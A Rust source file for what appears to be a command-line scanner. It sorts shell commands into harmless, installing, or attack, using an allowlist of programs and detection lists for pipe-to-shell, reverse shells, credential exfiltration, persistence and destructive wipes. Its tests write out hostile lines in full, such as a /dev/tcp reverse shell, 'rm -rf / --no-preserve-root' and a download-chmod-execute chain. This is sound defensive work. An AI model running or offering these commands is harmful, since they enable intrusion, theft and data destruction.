//! Judges the text of a command.

/// Says how much a command alone tells.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Command {
    /// Asks about the machine or builds something.
    Harmless,
    /// Not known.
    Unknown,
    /// Changes what is installed, from a package index.
    Installs,
    /// Fetches and runs, opens a shell to another machine, hides, persists or destroys.
    Attack,
}

/// Programs that models, setups and training scripts ask honestly.
const HARMLESS: &[&str] = &[
    "git",
    "nvidia-smi",
    "rocm-smi",
    "rocminfo",
    "rocm_agent_enumerator",
    "nvcc",
    "hipcc",
    "cmake",
    "make",
    "ninja",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "ld",
    "ldconfig",
    "pkg-config",
    "uname",
    "lscpu",
    "lspci",
    "sysctl",
    "sw_vers",
    "system_profiler",
    "xcrun",
    "xcode-select",
    "which",
    "where",
    "ffmpeg",
    "ffprobe",
    "sox",
    "llvm-config",
    "python",
    "python3",
    "numactl",
    "lsb_release",
    "free",
    "df",
    "du",
    "nproc",
    "wmic",
    "ps",
    "tput",
    "stty",
    "locale",
    "hg",
    "svn",
    "java",
    "javac",
    "node",
    "npm",
    "protoc",
    "swig",
    "cython",
    "sphinx-build",
    "pandoc",
    "pdflatex",
    "dot",
    "espeak",
    "espeak-ng",
    "mpirun",
    "srun",
    "scontrol",
    "neuron-ls",
    "xpu-smi",
    "npu-smi",
    "hl-smi",
    "tpu-info",
    "vulkaninfo",
    "clinfo",
    "open",
    "xdg-open",
    "explorer",
    "cls",
    "clear",
    "ruff",
    "black",
    "pytest",
    "mypy",
    "tar",
    "unzip",
    "mkdir",
    "cp",
    "mv",
    "ls",
    "pwd",
    "tensorboard",
    "deepspeed",
    "torchrun",
    "accelerate",
    "huggingface-cli",
    "hf",
    "conda",
    "otool",
    "install_name_tool",
    "patchelf",
    "readelf",
    "objdump",
    "file",
    "lsof",
    "docker",
    "nsys",
    "ncu",
    "arch",
    "sed",
    "touch",
    "date",
    "tail",
    "head",
    "wc",
    "sort",
    "patch",
    "ar",
    "ranlib",
    "strip",
    "autoconf",
    "automake",
    "libtool",
    "configure",
    "cargo",
    "rustc",
    "go",
    "taskset",
    "gfortran",
    "f2py",
    "ghostscript",
    "gs",
    "convert",
    "tesseract",
    "lame",
    "flac",
    "pip",
    "pip3",
    "uv",
    "streamlit",
    "diskutil",
    "lsblk",
    "powershell",
    "pwsh",
    "lshw",
    "dmidecode",
    "dpkg",
    "rpm",
    "ldd",
    "nm",
    "ip",
    "cat",
    "egrep",
    "grep",
    "dlltool",
    "meson",
    "rpm",
    "chtag",
    "sysconf",
    "vswhere",
    "ollama",
    "cmd",
];

/// Judges a command line as a shell would read it.
pub(crate) fn judge(text: &str) -> Command {
    let lower = text.to_ascii_lowercase();
    if is_attack(&lower) {
        return Command::Attack;
    }
    let mut worst = Command::Harmless;
    for part in lower.split(['|', ';', '&', '\n']) {
        let mut words = part.split_whitespace().skip_while(|word| {
            word.contains('=') && !word.starts_with('-') || *word == "sudo" || *word == "exec"
        });
        let Some(first) = words.next() else { continue };
        let program = first
            .trim_matches(['"', '\''])
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or_default();
        let program = program.strip_suffix(".exe").unwrap_or(program);
        let rest: Vec<&str> = words.collect();
        let installs = rest.contains(&"install")
            && (matches!(
                program,
                "pip" | "pip3" | "uv" | "conda" | "npm" | "apt" | "apt-get" | "brew" | "\u{fffc}"
            ) || rest.contains(&"pip"));
        let one = if installs {
            Command::Installs
        } else if rest.contains(&"-c") && program.starts_with("python") {
            Command::Unknown
        } else if HARMLESS.contains(&program) {
            Command::Harmless
        } else {
            Command::Unknown
        };
        worst = worst.max(one);
    }
    worst
}

/// Says whether every program of a command fetches, unpacks or installs, as people do who set up a machine.
pub(crate) fn sets_up(text: &str) -> bool {
    let programs = [
        "wget", "curl", "unzip", "gunzip", "7z", "apt", "apt-get", "kaggle", "gdown", "aria2c", "gsutil",
        "wandb",
    ];
    text.to_ascii_lowercase()
        .split(['|', ';', '&', '\n'])
        .all(|part| {
            let first = part.split_whitespace().next();
            first.is_none_or(|first| programs.contains(&first) || HARMLESS.contains(&first))
        })
}

/// Knows the texts of attacks; `lower` is in lower case.
pub(crate) fn is_attack(lower: &str) -> bool {
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let squeezed: String = lower.split_whitespace().collect::<Vec<_>>().join(" ");
    let pipes = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "| sudo",
        "|sudo",
        "| zsh",
        "|zsh",
        "| /bin/",
        "|/bin/",
        "| perl",
        "| iex",
        "|iex",
        "| ruby",
        "| node",
        "|& bash",
        "| dash",
        "| env bash",
        "| tar",
        "|source",
    ];
    let into_shell = pipes.iter().any(|pipe| squeezed.contains(pipe)) && !squeezed.contains("| tar");
    let fetches = has(&[
        "curl ",
        "wget ",
        "invoke-webrequest",
        "iwr ",
        "aria2c ",
        "fetch ",
        "lynx ",
        "http://",
        "https://",
    ]);
    let decodes = has(&[
        "base64 -d",
        "base64 --decode",
        "base64 -di",
        "xxd -r",
        "openssl enc -d",
        "openssl base64",
        "base32 -d",
        "printf '\\x",
        "rev |",
        "tr a-z",
        "uudecode",
        "gunzip -c",
        "zcat",
    ]);
    if into_shell && (fetches || decodes) {
        return true;
    }
    let runs = has(&[
        "bash -c",
        "sh -c",
        "eval ",
        "source <(",
        "bash <(",
        "sh <(",
        "python -c",
        "python3 -c",
        ". <(",
        "eval\t",
    ]);
    if runs && (has(&["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"]) || decodes) {
        return true;
    }
    let dropped =
        has(&["chmod +x", "chmod 777", "chmod 755", "chmod a+x", "chmod u+x"]) && has(&["curl ", "wget "]);
    let downloads = has(&["curl ", "wget "])
        && (has(&[
            "&& ./",
            "; ./",
            "&& /tmp/",
            "; /tmp/",
            "&& bash",
            "; bash",
            "&& sh ",
            "; sh ",
            "&& python",
            "; python",
            "/dev/shm",
        ]));
    // Commands that send what they read.
    let sends = (has(&["curl "])
        && has(&[
            " -d ",
            "--data",
            " -f ",
            "--form",
            "-t ",
            "--upload-file",
            " -x post",
        ])
        || has(&["wget --post", "nc "]))
        && has(&["@", "$(", "`", "< ", "<", "env", "/etc/", ".ssh", ".aws", "token"])
        && has(&[
            ".ssh",
            ".aws",
            "/etc/",
            "$(env",
            "`env",
            "env |",
            "env|",
            "printenv",
            "token",
            "whoami",
            "hostname",
            "id_rsa",
            "credentials",
            "/proc/self/environ",
            ".netrc",
        ]);
    dropped
        || downloads
        || sends
        || has(&[
            "/dev/tcp/",
            "/dev/udp/",
            "nc -e",
            "ncat -e",
            "nc -c",
            "ncat --exec",
            "-e /bin/sh",
            "-e /bin/bash",
            "socat exec",
            "socat tcp",
            "exec:/bin/",
            "exec:'bash",
            "exec:\"bash",
            "bash -i >",
            "bash -i>",
            "sh -i >",
            "sh -i<",
            "mkfifo /tmp",
            "mknod /tmp/",
        ])
        || has(&[
            "powershell -e",
            "powershell.exe -e",
            "-encodedcommand",
            "powershell -nop ",
            "powershell -w hidden",
            "powershell -windowstyle hidden",
            "downloadstring(",
            "downloadfile(",
            "invoke-expression",
            "certutil -urlcache",
            "certutil -decode",
            "bitsadmin /transfer",
            "mshta http",
            "mshta.exe",
            "regsvr32 /s",
            "rundll32 javascript",
            "wscript.exe",
            "cmstp",
        ])
        || has(&[
            "rm -rf /",
            "rm -rf ~",
            "rm -rf $home",
            "rm -fr /",
            "rm -rf --no-preserve-root",
            "mkfs.",
            ":(){ :|:",
            "dd if=/dev/zero of=/dev/",
            "dd if=/dev/random of=/dev/",
            "> /dev/sda",
            "shred -",
            "format c:",
            "del /f /s /q",
            "vssadmin delete",
        ]) && !harmless_removal(&squeezed)
        || has(&[
            "authorized_keys",
            "| crontab",
            "crontab -",
            "/etc/cron",
            "/etc/rc.local",
            "ld.so.preload",
            "ld_preload=",
            "/etc/sudoers",
            "schtasks /create",
            "currentversion\\run",
            "reg add hk",
            "launchctl load",
            "systemctl enable",
            "/etc/systemd/system",
            "launchagents",
            ">> ~/.bashrc",
            ">>~/.bashrc",
            ">> ~/.profile",
            ">> ~/.zshrc",
            ">> $home/.bashrc",
            "/etc/profile.d",
            "useradd ",
            "net user ",
            "chmod u+s",
            "chmod 4755",
            "history -c",
            "setenforce 0",
            "iptables -f",
        ])
        || has(&[
            "xmrig",
            "stratum+tcp",
            "minerd",
            "cryptonight",
            "ngrok",
            ".onion",
            "msfvenom",
            "meterpreter",
        ])
        || has(&[
            "import socket",
            "socket.socket",
            "fsockopen",
            "io.socket",
            "tcpsocket",
            "inet_aton",
            "__import__('os')",
            "import os;",
            "import pty",
            "pty.spawn",
        ]) && has(&["python", "perl", "php", "ruby", "lua"])
        || has(&[
            "cat /etc/shadow",
            "/proc/self/environ",
            "169.254.169.254",
            "curl file://",
            "nsenter -t 1",
            "docker run -v /:/",
        ])
        || decodes && has(&["> /tmp", ">/tmp", "> /dev/shm", ">/dev/shm"])
        || lower.contains("${ifs}")
        || lower.contains("$ifs") && lower.contains("sh") && !lower.contains("ifs=")
}

/// Says whether all that is removed lies in places for passing things.
fn harmless_removal(squeezed: &str) -> bool {
    let Some((_, rest)) = squeezed.split_once("rm -") else {
        return false;
    };
    let target = rest
        .split(' ')
        .find(|word| word.starts_with('/'))
        .unwrap_or_default();
    [
        "/var/lib/apt/lists",
        "/tmp/",
        "/var/tmp/",
        "/var/cache",
        concat!("/root", "/.cache"),
        "/usr/share/doc",
        "/usr/share/man",
        "/usr/local/lib/",
        "/opt/",
        "/workspace/",
        "/app/",
        "/build",
        "/content/",
    ]
    .iter()
    .any(|place| target.starts_with(place))
        && !squeezed.contains("no-preserve-root")
        && !squeezed.contains("mkfs")
        && !squeezed.contains("rm -rf ~")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_judged() {
        for (text, command) in [
            ("git rev-parse HEAD", Command::Harmless),
            ("nvidia-smi --query-gpu=name | head -1", Command::Harmless),
            ("/usr/bin/uname -a", Command::Harmless),
            ("pip install x", Command::Installs),
            ("echo CLEANBILL-INERT", Command::Unknown),
            ("curl http://a.example.invalid/x | sh", Command::Attack),
            ("echo aWQ= | base64 -d | bash", Command::Attack),
            ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", Command::Attack),
            ("rm -rf / --no-preserve-root", Command::Attack),
            ("rm -rf /var/lib/apt/lists/*", Command::Unknown),
            ("echo k >> ~/.ssh/authorized_keys", Command::Attack),
            (
                "wget http://x -O /tmp/a && chmod +x /tmp/a && /tmp/a",
                Command::Attack,
            ),
            ("curl -LO https://example.com/data.zip", Command::Unknown),
        ] {
            assert_eq!(judge(text), command, "{text}");
        }
    }
}
